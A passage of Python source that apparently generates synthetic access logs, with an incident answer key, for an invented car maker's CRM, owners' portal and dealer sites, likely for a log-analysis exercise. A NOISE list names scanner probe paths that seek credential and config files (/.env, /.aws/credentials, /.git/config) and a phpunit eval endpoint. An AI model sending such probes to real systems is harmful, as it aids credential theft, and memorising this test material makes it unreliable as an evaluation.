"""A Japanese car maker (invented: Hinode Motors), its headquarters' CRM, its owners' portal and about forty dealer shops, as log files.

    python dealers.py --seed 7 --days 35 --out DIR

Writes DIR/mimamori.yaml with its context files, DIR/logs/... and DIR/truth.json. One random.Random(seed) decides everything. All times in here are
naive Japan Standard Time; the writers turn them into what each server would print.
"""

from __future__ import annotations

import argparse, gzip, json, random
from collections import defaultdict
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote

HOLIDAYS = {
    date(2026, m, d)
    for m, d in [
        (3, 20),
        (4, 29),
        (5, 3),
        (5, 4),
        (5, 5),
        (5, 6),
        (7, 20),
        (8, 11),
        (9, 21),
        (9, 22),
        (9, 23),
        (10, 12),
        (11, 3),
        (11, 23),
    ]
}
SURNAMES = [
    tuple(s.split(":"))
    for s in (
        "sato:佐藤 suzuki:鈴木 takahashi:高橋 tanaka:田中 ito:伊藤 watanabe:渡辺 yamamoto:山本 nakamura:中村 kobayashi:小林 kato:加藤 "
        "yoshida:吉田 yamada:山田 sasaki:佐々木 yamaguchi:山口 matsumoto:松本 inoue:井上 kimura:木村 hayashi:林 saito:斎藤 shimizu:清水 yamazaki:山崎 mori:森 abe:阿部 "
        "ikeda:池田 hashimoto:橋本 ishikawa:石川 ogawa:小川 maeda:前田 okada:岡田 goto:後藤 hasegawa:長谷川 murakami:村上 kondo:近藤 ishii:石井 sakamoto:坂本 endo:遠藤 "
        "aoki:青木 fujii:藤井 nishimura:西村 fukuda:福田 ota:太田 miura:三浦 okamoto:岡本 matsuda:松田 nakajima:中島 harada:原田 ono:小野 tamura:田村"
    ).split()
]
TOWNS = (
    "札幌 仙台 盛岡 郡山 水戸 宇都宮 前橋 大宮 川越 千葉 柏 船橋 足立 練馬 世田谷 八王子 川崎 横浜 藤沢 新潟 長野 松本 静岡 浜松 豊橋 岡崎 名古屋 一宮 岐阜 四日市 "
    "京都 高槻 堺 神戸 姫路 岡山 広島 高松 松山 福岡 熊本 鹿児島"
).split()
MODELS = ["KISARAGI", "HAYATE", "SORA", "MINAMO", "GRANDTERRA", "YUKI-EV"]
DEPT = {
    "sales": "営業",
    "front": "サービス受付",
    "admin": "事務",
    "manager": "店長",
    "cc": "お客様相談室",
    "recall": "品質保証部",
    "marketing": "CRM推進部",
    "warranty": "保証部",
    "support": "販売店支援部",
    "it": "情報システム部",
    "audit": "内部監査室",
    "mail": "発送委託",
    "ccx": "電話委託",
}
LOAD = {
    "sales": (5, 1.3),
    "front": (7, 0.7),
    "admin": (5, 0.7),
    "manager": (4, 1.2),
    "cc": (0, 34),
    "recall": (0, 15),
    "marketing": (0, 5),
    "warranty": (0, 14),
    "support": (1, 7),
    "it": (0, 1.5),
    "audit": (0, 1.5),
    "mail": (0, 0),
    "ccx": (0, 25),
}
EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15"
IPAD = "Mozilla/5.0 (iPad; CPU OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1"
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_{m} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.{m} Mobile/15E148 Safari/604.1"
ANDROID = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36"
LINE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_{m} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/15.{m}.0"
GOOGLE = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
BING = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
NOISE = [
    "/.env",
    "/wp-login.php",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/xmlrpc.php",
    "/actuator/health",
    "/cgi-bin/luci/;stok=/locale",
    "/boaform/admin/formLogin",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/owa/auth/logon.aspx",
    "/.aws/credentials",
    "/server-status",
]
HQ_NAT = "210.148.33.20"
CRM_FORMAT = (
    '{"time":"$time_iso8601","host":"$host","peer":"$remote_addr","xff":"$http_x_forwarded_for","user":"$remote_user","request":"$request","status":"$status",'
    '"bytes":"$body_bytes_sent","rt":"$request_time","referer":"$http_referer","agent":"$http_user_agent","crmsid":"$cookie_crmsid"}'
)
OWNER_FORMAT = '%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" "%{OWNSESS}C" %D'

IIS_FIELDS = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes time-taken"
ABOUT = (
    "Hinode Motors, a Japanese car maker: a CRM at headquarters (call centre, recall, warranty and marketing people, a mailing house and a second call centre), an owners' portal where customers sign in, a public site, and about forty dealer shops "
    "of other companies, each with its own site (public pages and the shop's customer system), ten of them on IIS; shops work at weekends and rest on Tuesdays or Wednesdays, in Golden Week and Obon."
)
SETTINGS = """timezone: Asia/Tokyo
locale: ja
business_hours: {days: [mon, tue, wed, thu, fri, sat, sun], from: "08:00", to: "21:00"}
context: {people: people.csv, watch: watch.csv, privileges: privileges.csv}
user_types: [{pattern: "^d(?P<franchise>[0-9]{3})-", type: franchise}, {pattern: "^hq-", type: staff}, {pattern: "^ex-", type: contractor}, {pattern: "^batch-", type: system}, {pattern: "^m[0-9]+$", type: customer}]
resources:
  crm:
    - {id: crm-login, kind: login, path: /crm/login, methods: [POST], success: [302], failure: [401]}
    - {id: crm-customer, kind: record, path: "/crm/customer?no={subject}", level: 3, categories: [name, address, phone]}
    - {id: crm-vehicles, kind: record, path: "/crm/vehicles?no={subject}", level: 2, categories: [vehicle]}
    - {id: crm-search, kind: list, path: /crm/search, level: 2, categories: [name]}
    - {id: crm-export, kind: export, path: "/crm/export/*", level: 3, categories: [name, address, phone]}
  shop:
    - {id: dms-login, kind: login, path: /dms/login, methods: [POST], success: [302], failure: [401]}
    - {id: dms-customer, kind: record, path: "/dms/customers/{subject}", level: 3, categories: [name, address, phone]}
    - {id: dms-list, kind: list, path: /dms/customers, level: 2, categories: [name]}
    - {id: dms-reminders, kind: list, path: /dms/reminders, level: 2, categories: [name]}
    - {id: dms-export, kind: export, path: "/dms/export/*", level: 3, categories: [name, address, phone]}
  owner:
    - {id: owner-login, kind: login, path: /login, methods: [POST], success: [302], failure: [401]}
    - {id: owner-profile, kind: record, path: /mypage/profile, level: 2, categories: [name, address, phone]}
    - {id: owner-car, kind: record, path: "/mypage/cars/{subject}", level: 2, categories: [name, vehicle]}
    - {id: owner-reminder, kind: record, path: "/shaken/{subject}", level: 1, categories: [name, vehicle]}
sites:
  - {id: crm, group: hq, domains: [crm.hinode.example], logs: ["crm/access.json*"], resources: crm, hours: business, session_cookie: crmsid, trusted_proxies: [10.20.0.5, 10.20.0.6], format: 'CRM_FORMAT'}
  - {id: owner, group: hq, domains: [owner.hinode.example], logs: ["owner/access_log*"], resources: owner, hours: always, session_cookie: OWNSESS, format: 'OWNER_FORMAT'}
  - {id: www, group: hq, domains: [www.hinode.example], logs: ["www/*.log.gz"], hours: always, format: aws_alb}
  - {id: "dealer-{dealer}", group: dealer, domains: ["{dealer}.dealers.hinode.example"], logs: ["dealers/{dealer}/access.log*", "dealers/{dealer}/u_ex*.log"], franchise: "{dealer}", format: auto, resources: shop, hours: business, roster: dealers.csv}
"""


@dataclass(slots=True)
class Person:
    """One account and the habits of who uses it: `own` customers, `on[i]` works on day i, `busy[i]` a factor for day i."""

    user: str
    name: str
    role: str
    shop: str = ""
    ip: str = ""
    agent: str = EDGE
    company: str = "日ノ出自動車"
    rate: float = 1.0
    start: float = 9.0
    end: float = 18.5
    own: list[str] = field(default_factory=list)
    on: list[bool] = field(default_factory=list)
    busy: dict[int, float] = field(default_factory=dict)
    joined: str = "2021-04-01"
    left: str = ""
    person: str = ""

    @property
    def site(self) -> str:
        """The site where this person mostly works."""
        return f"dealer-{self.shop}" if self.shop else "crm"


@dataclass(slots=True)
class Shop:
    """A dealer shop, open on the days from_day to to_day; its customers' numbers begin with its own; `closed` is a weekday, `public` the liveliness of its pages."""

    no: str
    name: str
    ip: str
    size: int
    iis: bool
    closed: int
    public: float
    opened_on: str = "2015-04-01"
    closed_on: str = ""
    from_day: int = 0
    to_day: int = 9999


@dataclass
class Case:
    """An incident; `seen` has the day and site of each of its lines, or of what is missing when `silent`."""

    grade: str
    family: str
    actors: list[str]
    what: str
    how: str
    woken: bool = True
    seen: list[tuple[date, str]] = field(default_factory=list)
    silent: bool = False


class Line(NamedTuple):
    """One request, before a server's format is put on it."""

    t: datetime
    ip: str
    user: str
    method: str
    target: str
    status: int
    size: int
    ref: str
    agent: str
    sid: str
    ms: int


def hq_break(d: date) -> bool:
    """Headquarters' holidays: the calendar's, and the works' two long breaks."""
    return (
        d in HOLIDAYS
        or (4, 29) <= (d.month, d.day) <= (5, 6)
        or (8, 8) <= (d.month, d.day) <= (8, 16)
    )


def shop_break(d: date) -> bool:
    """Shops are open on holidays but for Golden Week and Obon."""
    return (5, 3) <= (d.month, d.day) <= (5, 6) or (8, 12) <= (d.month, d.day) <= (8, 16)


def secs(number: float) -> timedelta:
    """So many seconds."""
    return timedelta(seconds=number)


class World:
    """The company, its days and everything written so far."""

    def __init__(self, seed: int, days: int) -> None:
        self.seed, self.n, self.r = seed, days, random.Random(seed)
        last = date(2026, 4, 30) + timedelta(days=self.r.randrange(215))
        self.days, self.half = [last - timedelta(days=days - 1 - i) for i in range(days)], days // 2
        self.lines: dict[str, list[Line]] = defaultdict(list)
        self.cases, self.notes, self.gaps = (
            list[Case](),
            list[dict[str, object]](),
            list[tuple[str, datetime, datetime]](),
        )  # gaps: lines that never arrive
        self.failing: list[
            tuple[str, str, str, datetime, datetime, int, Case | None]
        ] = []  # site, method, prefix, from, to, status, case
        self.moved: tuple[str, str, datetime] | None = None  # a shop's old and new address
        self.sids, self.factor, self.twice = (
            dict[tuple[str, str, int], str](),
            dict[tuple[str, int], float](),
            list[tuple[str, int]](),
        )  # sessions; (traffic, day) -> factor; (site, day) delivered twice
        self.taken, self.used_ips, self.vips = (
            set[str](),
            set[str](),
            list[str](),
        )  # taken: accounts and shops that are in a story
        self.by_no = {s.no: s for s in self.make_shops()}
        self.shops = list(self.by_no.values())
        self.steady = [s for s in self.shops if s.from_day == 0 and s.to_day > days]
        self.people = self.make_people()
        self.vips = [self.anyone(s.no) for s in self.r.sample(self.steady, 3)]
        self.decoys = [
            f"{s.no}{s.size + 40 + k:04d}" for k, s in enumerate(self.r.sample(self.shops, 3))
        ]
        self.members = [
            (f"m{100000 + 7 * k}", self.address("home"), self.phone_agent()) for k in range(5000)
        ]

    def address(self, kind: str) -> str:
        """An address of a kind of network; never one given out before, but for mobile ones, which come back."""
        r = self.r
        while True:
            a, b, c = r.randrange(256), r.randrange(1, 255), r.random()
            if kind == "mobile":
                return (
                    f"49.98.{120 + a % 60}.{b}"
                    if c < 0.4
                    else f"106.{128 + a % 6}.{a % 40}.{b}"
                    if c < 0.7
                    else f"126.{150 + a % 100}.{a % 60}.{b}"
                )
            ip = {
                "home": f"{r.choice([114, 118, 122, 153, 180, 219])}.{r.randrange(16, 240)}.{a}.{b}",
                "shop": f"{r.choice([61, 118, 210])}.{r.randrange(112, 127)}.{a}.{b}",
                "hosting": f"{r.choice(['45.77', '139.180', '167.179', '185.220'])}.{a}.{b}",
                "noise": f"{r.choice([45, 79, 92, 103, 141, 193])}.{r.randrange(20, 240)}.{a}.{b}",
            }[kind]
            if ip not in self.used_ips:
                self.used_ips.add(ip)
                return ip

    def phone_agent(self) -> str:
        """The browser of a customer."""
        return self.r.choices([IPHONE, ANDROID, LINE, CHROME, MAC], [42, 26, 12, 13, 7])[0].replace(
            "{m}", str(self.r.choice([3, 4, 5, 5, 5, 6]))
        )

    def count(self, mean: float, shape: float = 2.2) -> int:
        """A count with a heavy right side."""
        burst = self.r.choice([2.2, 3.0]) if self.r.random() < 0.015 else 1
        return (
            int(self.r.gammavariate(shape, mean / shape) * burst + self.r.random())
            if mean > 0
            else 0
        )

    def at(self, day: int, *hours: float) -> datetime:
        """A moment on a day of the world: at an hour or between two."""
        return datetime.combine(self.days[min(day, self.n - 1)], datetime.min.time()) + secs(
            self.r.uniform(hours[0], hours[-1]) * 3600 + self.r.random()
        )

    def live(self, day: int) -> datetime:
        """A moment at which the public is awake: a hump at noon, a larger one in the evening, little at night."""
        c = self.r.random()
        return self.at(
            day,
            self.r.gauss(12.5, 2.6) % 24
            if c < 0.42
            else self.r.gauss(20.5, 1.8) % 24
            if c < 0.88
            else self.r.random() * 24,
        )

    def sid(self, user: str, site: str, day: int) -> str:
        """The session of a user at a site on a day."""
        return self.sids.setdefault((user, site, day), f"{self.r.getrandbits(64):016x}")

    def hit(
        self,
        site: str,
        t: datetime,
        ip: str,
        target: str,
        *,
        user: str = "",
        method: str = "GET",
        status: int = 0,
        size: int = 0,
        ref: str = "",
        agent: str = CHROME,
        sid: str = "",
        case: Case | None = None,
    ) -> None:
        """Write one line, unless it is outside the days or in a gap of the log."""
        if not self.days[0] <= t.date() <= self.days[-1] or any(
            site == s and a <= t < b for s, a, b in self.gaps
        ):
            return
        status = status or (302 if method == "POST" else 200)
        for where, verb, prefix, begin, end, code, other in self.failing:
            if (
                site == where
                and begin <= t < end
                and verb in ("", method)
                and target.startswith(prefix)
            ):
                status, case = code, other or case
        if self.moved and ip == self.moved[0] and t >= self.moved[2]:
            ip = self.moved[1]
        size = (
            size or int(self.r.lognormvariate(9.2, 0.6))
            if status == 200
            else 0
            if status == 304
            else self.r.choice([0, 162, 548, 1180])
        )
        version = 146 + (t.date() - date(2026, 3, 10)).days // 28
        self.lines[site].append(
            Line(
                t,
                ip,
                user,
                method,
                target,
                status,
                size,
                ref,
                agent.replace("{v}", str(version)),
                sid,
                int(self.r.lognormvariate(4.2, 0.8)),
            )
        )
        if case:
            case.seen.append((t.date(), site))

    def case(
        self, grade: str, family: str, actors: list[str], what: str, how: str, woken: bool = True
    ) -> Case:
        """Open an incident."""
        self.cases.append(Case(grade, family, actors, what, how, woken))
        return self.cases[-1]

    def note(
        self, first: int, last: int, sites: list[str], actors: list[str], what: str, why: str
    ) -> None:
        """Write down an annoyance."""
        if last >= 0 and first < self.n:
            first_day, last_day = [
                self.days[min(self.n - 1, max(0, k))].isoformat() for k in (first, last)
            ]
            self.notes.append(
                {
                    "id": f"a{len(self.notes) + 1:02d}",
                    "first_day": first_day,
                    "last_day": last_day,
                    "site_ids": sites,
                    "actors": actors,
                    "what": what,
                    "why_not": why,
                }
            )

    def make_shops(self) -> list[Shop]:
        """About forty shops; the last ten or so keep IIS, three share one address, a few have IPv6, one opens and one closes in these weeks."""
        r, shops, no = self.r, list[Shop](), 0
        for k, town in enumerate(TOWNS[: r.randrange(38, 43)]):
            no += r.choice([1, 1, 1, 2, 3])
            ip = (
                f"2400:4050:{r.randrange(4096, 65535):x}:{r.randrange(1, 255):x}00::"
                if k in (5, 17, 24)
                else self.address("shop")
            )
            shops.append(
                Shop(
                    f"{no:03d}",
                    f"日ノ出自動車 {town}店",
                    ip,
                    int(min(2800, r.lognormvariate(6.8, 0.45))),
                    k >= 30,
                    r.choice([1, 1, 1, 2]),
                    r.lognormvariate(0, 0.5),
                )
            )
        shops[8].ip = shops[9].ip = shops[7].ip  # a dealer group's proxy
        shops[21].from_day, shops[26].to_day = (
            self.half + r.randrange(-3, 4),
            self.half + r.randrange(2, 9),
        )
        shops[21].opened_on, shops[26].closed_on = (
            self.days[shops[21].from_day].isoformat(),
            self.days[shops[26].to_day - 1].isoformat(),
        )
        return shops

    def make_people(self) -> list[Person]:
        """Everybody with an account, and on which days each works."""
        r, out, seen = self.r, [], defaultdict(int)

        def add(prefix: str, role: str, shop: str, ip: str, company: str) -> Person:
            roman, kanji = r.choice(SURNAMES)
            seen[prefix + roman] += 1
            p = Person(
                prefix + roman + (str(seen[prefix + roman]) if seen[prefix + roman] > 1 else ""),
                kanji + r.choice("健 翔太 美咲 直樹 恵 大輔 陽子 涼 彩 誠 真由美 拓也".split()),
                role,
                shop,
                ip,
                company=company,
            )
            p.rate, p.start, p.end = (
                min(3.2, r.lognormvariate(-0.08, 0.45)),
                r.uniform(8.7, 10),
                r.uniform(17.6, 19.6),
            )
            p.joined = date(r.randrange(2004, 2026), r.choice([4, 4, 4, 7, 10]), 1).isoformat()
            out.append(p)
            return p

        for s in self.shops:
            for role in (
                ["manager", "admin", "front", "front", "sales", "sales", "sales"]
                + ["sales"] * r.choice([0, 0, 1, 2])
                + ["front"] * (r.random() < 0.3)
            ):
                p = add(
                    f"d{s.no}-",
                    role,
                    s.no,
                    s.ip if ":" not in s.ip else f"{s.ip}{r.randrange(16, 255):x}",
                    s.name,
                )
                p.agent = (
                    IPAD
                    if role == "sales" and r.random() < 0.3
                    else EDGE
                    if r.random() < 0.8
                    else CHROME
                )
                rest, part = (
                    (s.closed, r.choice([x for x in (0, 2, 3, 4) if x != s.closed])),
                    role in ("front", "admin") and r.random() < 0.15,
                )
                p.on = [
                    s.from_day <= i < s.to_day
                    and d.weekday() not in rest + (5, 6) * part
                    and not shop_break(d)
                    and r.random() > 0.04
                    for i, d in enumerate(self.days)
                ]
                p.own = [
                    f"{s.no}{x:04d}"
                    for x in r.sample(range(1, s.size), min(s.size - 1, r.randrange(60, 200)))
                ]
                if part:
                    p.start, p.end, p.rate = 10, 15, p.rate * 0.6
        for role, number in [
            ("cc", 13),
            ("recall", 6),
            ("marketing", 6),
            ("warranty", 7),
            ("support", 5),
            ("it", 3),
            ("audit", 2),
            ("mail", 2),
            ("ccx", 6),
        ]:
            for _ in range(number):
                prefix, ip, company = {
                    "mail": ("ex-mail-", "61.118.204.7", "東和プリント"),
                    "ccx": ("ex-cc-", "210.119.88.34", "コールネット"),
                }.get(
                    role,
                    ("hq-", f"10.31.{r.randrange(2, 9)}.{r.randrange(10, 250)}", "日ノ出自動車"),
                )
                p, daily, rest = (
                    add(prefix, role, "", ip, company),
                    role in ("cc", "ccx"),
                    r.randrange(7),
                )
                p.on = [
                    r.random() > 0.04
                    and (
                        d.weekday() not in (rest, (rest + 3) % 7)
                        if daily
                        else d.weekday() < 5 and not hq_break(d)
                    )
                    for d in self.days
                ]
                if daily and r.random() < 0.4:
                    p.start, p.end = 11.5, 20
        return out

    def pick(self, *roles: str) -> Person:
        """Somebody of a role who is in no other story and works in the later weeks."""
        p = self.r.choice(
            [
                p
                for p in self.people
                if p.role in roles
                and not {p.user, p.shop} & self.taken
                and sum(p.on[14:]) >= 9
                and (not p.shop or self.by_no[p.shop] in self.steady)
            ]
        )
        self.taken.add(p.user)
        return p

    def pick_shop(self, iis: bool | None = None) -> Shop:
        """A shop with an address of its own in no other story, whose people are in none either."""
        busy = {p.shop for p in self.people if p.user in self.taken} | self.taken
        shop = self.r.choice(
            [
                s
                for s in self.steady
                if s.no not in busy
                and iis in (None, s.iis)
                and ":" not in s.ip
                and s not in self.shops[7:10]
            ]
        )
        self.taken.add(shop.no)
        return shop

    def shifts(self, p: Person, number: int, wide: bool = False) -> list[int]:
        """`number` working days in a row, in the second half where possible; `wide` may begin on day 15."""
        days = [i for i in range(14 if wide else self.half, self.n) if p.on[i]] or [
            i for i in range(14, self.n) if p.on[i]
        ]
        begin = self.r.randrange(max(1, len(days) - number + 1))
        return days[begin : begin + number]

    def span(self, number: int) -> list[int]:
        """`number` calendar days in a row in the second half."""
        begin = self.r.randrange(self.half, self.n - number + 1)
        return list(range(begin, begin + number))

    def anyone(self, shop: str = "") -> str:
        """A customer's number, of one shop or of any (large shops more often), never a decoy or a watched person."""
        while True:
            s = (
                self.by_no[shop]
                if shop
                else self.r.choices(self.shops, [x.size for x in self.shops])[0]
            )
            if (no := f"{s.no}{self.r.randrange(1, s.size):04d}") not in self.vips:
                return no

    def some(self, low: int, high: int, shop: str = "") -> list[str]:
        """Between low and high customers, of one shop or of any."""
        return [self.anyone(shop) for _ in range(self.r.randrange(low, high))]

    def fresh(self, p: Person, number: int) -> list[str]:
        """Customers of a person's shop who are not in his care, each once."""
        others = sorted(
            {f"{p.shop}{x:04d}" for x in range(1, self.by_no[p.shop].size)} - set(p.own + self.vips)
        )
        return self.r.sample(others, min(number, len(others)))

    def visit(
        self,
        p: Person,
        site: str,
        t: datetime,
        subjects: Iterable[str] = (),
        *,
        ip: str = "",
        agent: str = "",
        sid: str = "",
        login: bool | None = None,
        notes: float = 0.3,
        lists: int = 1,
        pace: float = 4.1,
        case: Case | None = None,
        typo: float = 0.03,
    ) -> None:
        """One sitting of a member of staff in the CRM or in a shop's own system."""
        r, day, crm = self.r, (t.date() - self.days[0]).days, site == "crm"
        root, base = (
            ("/crm", "https://crm.hinode.example/crm")
            if crm
            else ("/dms", f"https://{site[7:]}.dealers.hinode.example/dms")
        )
        login = bool(ip) or (p.user, site, day) not in self.sids if login is None else login
        sid, ip = (
            sid or (f"{r.getrandbits(64):016x}" if ip else self.sid(p.user, site, day)),
            ip or (p.ip if p.shop or crm else HQ_NAT),
        )

        def go(seconds: float, target: str, ref: str, **more: Any) -> None:
            nonlocal t
            self.hit(
                site,
                t,
                ip,
                root + target,
                ref=base + ref,
                **{"user": p.user, "agent": agent or p.agent, "sid": sid, "case": case, **more},
            )
            t += secs(seconds)

        if login:
            go(r.uniform(4, 20), "/login", "/", user="", sid="")
            while r.random() < typo:
                go(r.uniform(5, 30), "/login", "/login", method="POST", status=401, sid="")
            go(1, "/login", "/login", method="POST")
            go(r.uniform(3, 40), "/", "/login")
        for _ in range(lists):
            own = f"shop={p.shop or r.choice(self.shops).no}" + (
                f"&model={r.choice(MODELS)}" if r.random() < 0.25 else ""
            )
            go(
                r.uniform(3, 40),
                f"/search?{own}"
                if crm
                else "/customers"
                + r.choice(["", "?tanto=me", f"?due={self.days[day]:%Y-%m}", "?page=2"]),
                "/",
            )
        for no in subjects:
            page = f"/customer?no={no}" if crm else f"/customers/{no}"
            go(r.lognormvariate(pace, 0.8), page, "/search" if crm else "/customers")
            looks = crm and r.random() < 0.5
            if r.random() < notes:
                go(
                    r.uniform(20, 240),
                    f"/vehicles?no={no}"
                    if looks
                    else f"/contacts?no={no}"
                    if crm
                    else page + "/notes",
                    page,
                    method="GET" if looks else "POST",
                )
        if login and subjects and r.random() < 0.3:
            go(0, "/logout", "/", status=302)

    def member(
        self,
        t: datetime,
        who: tuple[str, str, str],
        *,
        ip: str = "",
        fails: int = 0,
        case: Case | None = None,
        pages: list[str] | None = None,
        agent: str = "",
    ) -> None:
        """A customer signs in to the owners' portal and looks at the own car."""
        r, base, car, sid = (
            self.r,
            "https://owner.hinode.example",
            f"/mypage/cars/K{who[0][1:]}",
            f"{self.r.getrandbits(80):020x}",
        )
        ip, common = (
            ip or (who[1] if r.random() < 0.6 else self.address("mobile")),
            {"agent": agent or who[2], "case": case},
        )
        for _ in range(fails):
            self.hit(
                "owner",
                t,
                ip,
                "/login",
                method="POST",
                status=401,
                user=who[0],
                ref=f"{base}/login",
                **common,
            )
            t += secs(r.lognormvariate(2.9, 0.5))
        if fails > 6:
            self.hit("owner", t, ip, "/password/reset", method="POST", **common)
            t += secs(r.uniform(40, 400))
        self.hit(
            "owner",
            t,
            ip,
            "/login",
            method="POST",
            user=who[0],
            sid=sid,
            ref=f"{base}/login",
            **common,
        )
        usual = [
            "/mypage/booking",
            "/mypage/profile",
            f"{car}/history",
            "/mypage/news",
            "/mypage/points",
        ]
        for page in pages or ["/mypage/", car] + r.sample(usual, r.choice([0, 1, 1, 2, 3])):
            t += secs(r.lognormvariate(2.6, 0.9))
            self.hit(
                "owner",
                t,
                ip,
                page.removeprefix("POST "),
                method="POST" if page.startswith("POST ") else "GET",
                user=who[0],
                sid=sid,
                ref=f"{base}/mypage/",
                **common,
            )


# -- the ordinary life ------------------------------------------------------------------------------------------------------------------------------
def ordinary_staff(w: World, p: Person, i: int) -> None:
    """A working day of one person."""
    r, d, me = w.r, w.days[i], {"user": p.user, "agent": p.agent}
    f = (
        p.rate
        * p.busy.get(i, 1.0)
        * w.factor.get((p.site, i), 1.0)
        * (1.08 if p.shop and d.weekday() >= 5 else 1.0)
    )
    late = p.end + (
        r.uniform(0.5, 2)
        if p.role in ("admin", "manager") and (d + timedelta(days=2)).day <= 2
        else 0
    )
    shop = p.shop or r.choice(w.steady).no
    for site, number in (
        (f"dealer-{shop}", w.count(LOAD[p.role][0] * f)),
        ("crm", w.count(LOAD[p.role][1] * f, 4)),
    ):
        while number > 0:
            part = min(number, r.randrange(3, 13))
            number -= part
            subjects = [
                w.anyone(p.shop)
                if not p.shop or p.role in ("front", "admin") or r.random() < 0.12
                else p.own[int(len(p.own) * r.random() ** 1.7)]
                for _ in range(part)
            ]
            subjects[0] = (
                w.anyone() if r.random() < 0.01 else subjects[0]
            )  # somebody who moved here
            away = (
                {"ip": w.address("mobile"), "agent": IPAD}
                if p.role == "sales" and r.random() < (0.25 if p.agent == IPAD else 0.03)
                else {}
            )
            w.visit(
                p,
                site,
                w.at(i, p.start, max(p.start + 0.5, late - 0.4)),
                subjects,
                notes=0.55 if p.role in ("cc", "ccx", "front") else 0.25,
                lists=r.choice([0, 1, 1, 2]),
                pace=4.4,
                **away,
            )
    if p.role == "marketing" and r.random() < 0.6:
        w.visit(p, "crm", w.at(i, 9.5, 10))
        for pref in r.choices([11, 12, 13, 13, 14, 23, 27, 40], k=w.count(1.6)):
            w.hit(
                "crm",
                w.at(i, 10.1, 18),
                p.ip,
                f"/crm/export/segment.csv?purpose=DM{d:%y%m}&pref={pref:02d}",
                size=int(r.lognormvariate(12, 0.5)),
                sid=w.sid(p.user, "crm", i),
                **me,
            )
    if p.role == "mail" and d.weekday() == 0:
        w.visit(p, "crm", w.at(i, 9.7), lists=0)
        w.hit(
            "crm",
            w.at(i, 9.9),
            p.ip,
            f"/crm/export/recall-{1 + i // 30 % 3:02d}.csv",
            size=int(r.lognormvariate(14.5, 0.3)),
            sid=w.sid(p.user, "crm", i),
            **me,
        )
    if p.role == "admin" and d.day in (2, 3, 4) and r.random() < 0.6:
        w.hit(
            p.site,
            w.at(i, 10, 17),
            p.ip,
            f"/dms/export/dm.csv?due={(d + timedelta(days=60)):%Y-%m}",
            size=int(r.lognormvariate(10.3, 0.4)),
            **me,
        )
    if p.role == "manager" and d.day <= 5 and r.random() < 0.4:
        w.hit(p.site, w.at(i, 10, 18), p.ip, f"/dms/reminders?month={d:%Y-%m}", **me)


def browse(
    w: World, site: str, i: int, pages: list[str], number: int, ref: str = ""
) -> tuple[datetime, str, str]:
    """An anonymous visitor's pages; gives when, where from and with what he goes on."""
    t, ip, agent = (
        w.live(i),
        w.address("home" if w.r.random() < 0.45 else "mobile"),
        w.phone_agent(),
    )
    for page in w.r.choices(pages, k=number):
        w.hit(site, t, ip, page, agent=agent, status=304 if w.r.random() < 0.05 else 200, ref=ref)
        t += secs(w.r.lognormvariate(3, 1))
    return t, ip, agent


def ordinary_public(w: World, i: int) -> None:
    """Visitors, crawlers, monitoring, batch accounts and the internet's noise on one day."""
    r, d = w.r, w.days[i]
    weekend = 1.22 if d.weekday() >= 5 or d in HOLIDAYS else 1.0
    for _ in range(int(135 * weekend * w.factor.get(("www", i), 1) * r.lognormvariate(0, 0.13))):
        pages = [
            "/",
            "/cars/",
            "/cars/hayate",
            "/cars/sora",
            "/cars/grandterra",
            "/dealers/",
            "/recall/",
            "/news/",
            f"/recall/check?vin=HND{r.randrange(10**6, 10**7)}",
            "/testdrive/",
        ]
        t, ip, agent = browse(w, "www", i, pages, 1 + w.count(2.4))
        if r.random() < 0.03:
            w.hit("www", t, ip, "/testdrive/complete", method="POST", agent=agent)
    for _ in range(int(130 * weekend * w.factor.get(("owner", i), 1) * r.lognormvariate(0, 0.15))):
        w.member(
            w.live(i),
            w.members[int(len(w.members) * r.random() ** 2)],
            fails=r.choice([1, 1, 2, 3]) if r.random() < 0.07 else 0,
        )
    for _ in range(
        w.count(6) if d.day != 10 else r.randrange(220, 420)
    ):  # links of the reminder mail, which goes out at ten on the tenth
        t, ip, agent = (
            w.live(i) if d.day != 10 else w.at(i, 10 + r.expovariate(0.35) % 13),
            w.address("mobile"),
            w.phone_agent(),
        )
        w.hit("owner", t, ip, f"/shaken/{d:%y%m}{r.randrange(100000):05d}", agent=agent)
    for s in w.shops:
        site, base = f"dealer-{s.no}", f"https://{s.no}.dealers.hinode.example"
        if not s.from_day <= i < s.to_day:
            continue
        for _ in range(w.count(7 * s.public * weekend * w.factor.get((site, i), 1))):
            pages = [
                "/",
                "/stock",
                f"/stock?model={r.choice(MODELS)}",
                "/staff",
                "/blog/",
                f"/blog/{r.randrange(40, 90)}",
                "/service/shaken",
                "/access",
            ]
            t, ip, agent = browse(
                w,
                site,
                i,
                pages,
                1 + w.count(1),
                "https://www.google.com/" if r.random() < 0.4 else base + "/",
            )
            if r.random() < 0.22:
                w.hit(site, t, ip, "/booking", agent=agent, ref=base + "/service/shaken")
                w.hit(
                    site,
                    t + secs(r.uniform(40, 300)),
